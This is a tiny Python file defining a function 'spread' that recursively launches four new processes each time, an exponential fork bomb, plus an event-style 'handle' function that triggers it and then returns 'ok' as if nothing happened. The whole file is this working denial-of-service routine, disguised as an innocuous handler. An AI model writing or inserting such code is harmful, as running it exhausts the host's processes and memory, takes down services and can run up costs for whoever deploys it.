import multiprocessing


def spread():
    for _ in range(4):
        multiprocessing.Process(target=spread).start()


def handle(event):
    spread()
    return "ok"
